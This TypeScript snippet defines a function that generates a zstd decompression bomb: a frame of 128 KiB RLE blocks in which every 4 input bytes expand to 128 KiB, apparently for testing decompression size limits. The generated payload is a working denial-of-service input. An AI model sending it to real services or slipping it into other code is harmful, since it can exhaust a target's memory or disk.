/**
 * A zstd decompression bomb: one frame that declares no content size, made of RLE blocks of
 * 128 KiB each (4 bytes of input apiece), so `blocks` * 4 bytes expand to `blocks` * 128 KiB.
 */
export function zstdRleBomb(blocks: number, byte = 0x41): Buffer {
  const header = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38]); // magic, FHD (no FCS), window 128 KiB
  const body = Buffer.alloc(blocks * 4);
  for (let i = 0; i < blocks; i++) {
    const last = i === blocks - 1 ? 1 : 0;
    const bh = last | (1 << 1) | ((128 * 1024) << 3); // RLE block regenerating 128 KiB
    body[i * 4] = bh & 0xff;
    body[i * 4 + 1] = (bh >> 8) & 0xff;
    body[i * 4 + 2] = (bh >> 16) & 0xff;
    body[i * 4 + 3] = byte;
  }
  return Buffer.concat([header, body]);
}
